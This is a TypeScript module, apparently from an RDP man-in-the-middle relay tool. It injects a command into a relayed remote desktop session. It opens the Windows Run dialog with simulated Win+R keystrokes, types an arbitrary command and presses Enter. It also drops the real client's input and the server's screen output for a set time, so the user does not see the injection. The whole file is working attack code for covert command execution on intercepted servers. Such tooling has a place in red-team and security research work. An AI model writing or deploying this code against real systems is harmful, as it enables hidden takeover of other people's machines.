import { type IoEvent, isIoEvent } from '../channels/handlers/io'
import { IO_CHANNEL } from '../channels/types'
import type { Diagnostics } from '../diagnostics'
import { type FastPathInputEvent, FastPathKeyboardFlag } from '../pdu/fast-path'
import { drop } from '../relay/hooks'
import type { RelaySession } from '../relay/session'
import { fromFastPath } from './input'

export interface PayloadInjectionOptions {
  readonly command: string
  /** Time after both legs are active before typing starts. */
  readonly delayMs: number
  /** How long client input and server output are withheld once typing starts. */
  readonly blockDurationMs: number
  /** Pause between opening the run dialog and typing into it. */
  readonly stepDelayMs?: number
  readonly diagnostics?: Diagnostics
}

const SCANCODE_LEFT_WINDOWS = 0x5b
const SCANCODE_R = 0x13
const SCANCODE_ENTER = 0x1c

function key(keyCode: number, released: boolean, extended = false): FastPathInputEvent {
  const flags =
    (released ? FastPathKeyboardFlag.Release : 0) | (extended ? FastPathKeyboardFlag.Extended : 0)
  return { type: 'scancode', flags, keyCode }
}

function typeText(text: string): FastPathInputEvent[] {
  const events: FastPathInputEvent[] = []
  // One event pair per UTF-16 code unit; astral characters go as surrogate pairs.
  for (let i = 0; i < text.length; i += 1) {
    const unicode = text.charCodeAt(i)
    events.push({ type: 'unicode', flags: 0, unicode })
    events.push({ type: 'unicode', flags: FastPathKeyboardFlag.Release, unicode })
  }
  return events
}

export const openRunDialog = (): FastPathInputEvent[] => [
  key(SCANCODE_LEFT_WINDOWS, false, true),
  key(SCANCODE_R, false),
  key(SCANCODE_R, true),
  key(SCANCODE_LEFT_WINDOWS, true, true),
]

export const typeCommand = (command: string): FastPathInputEvent[] => [
  ...typeText(command),
  key(SCANCODE_ENTER, false),
  key(SCANCODE_ENTER, true),
]

function isUserTraffic(event: IoEvent): boolean {
  return (
    event.type === 'fast-path-input' ||
    event.type === 'fast-path-output' ||
    (event.type === 'share' && event.input !== undefined)
  )
}

/**
 * Types `command` into the server session through the run dialog, hiding
 * the session from the real client while it runs.
 */
export function installPayloadInjection(
  session: RelaySession,
  options: PayloadInjectionOptions,
): () => void {
  const timers = new Set<ReturnType<typeof setTimeout>>()
  let blocking = false
  let scheduled = false

  const schedule = (delayMs: number, action: () => void) => {
    const timer = setTimeout(() => {
      timers.delete(timer)
      action()
    }, delayMs)
    timers.add(timer)
  }

  const clearTimers = () => {
    for (const timer of timers) clearTimeout(timer)
    timers.clear()
  }

  const inject = (events: FastPathInputEvent[]) => {
    void session
      .inject('client-to-server', IO_CHANNEL, {
        event: { type: 'fast-path-input', header: 0, events },
      })
      .then(
        () => {
          session.record((recorder) =>
            recorder.input({
              direction: 'client-to-server',
              source: 'injected',
              events: events.flatMap(fromFastPath),
            }),
          )
        },
        (error: unknown) => {
          options.diagnostics?.warn('payload-failed', 'Payload keystrokes were not sent', {
            sessionId: session.sessionId,
            error: error instanceof Error ? error.message : String(error),
          })
        },
      )
  }

  const run = () => {
    blocking = true
    options.diagnostics?.info('payload', 'Injecting payload', { sessionId: session.sessionId })
    inject(openRunDialog())
    schedule(options.stepDelayMs ?? 500, () => inject(typeCommand(options.command)))
    schedule(options.blockDurationMs, () => {
      blocking = false
      options.diagnostics?.info('payload', 'Payload block lifted', { sessionId: session.sessionId })
    })
  }

  const arm = () => {
    if (scheduled) return
    scheduled = true
    schedule(options.delayMs, run)
  }

  const unregister = session.registerHook(
    (message) =>
      blocking && message.channel === IO_CHANNEL && isIoEvent(message.event) && isUserTraffic(message.event),
    () => drop(),
  )
  const unsubscribe = session.subscribe((event) => {
    if (event.type === 'active') arm()
    if (event.type === 'closed') {
      blocking = false
      clearTimers()
    }
  })
  if (session.active) arm()

  return () => {
    clearTimers()
    unregister()
    unsubscribe()
  }
}
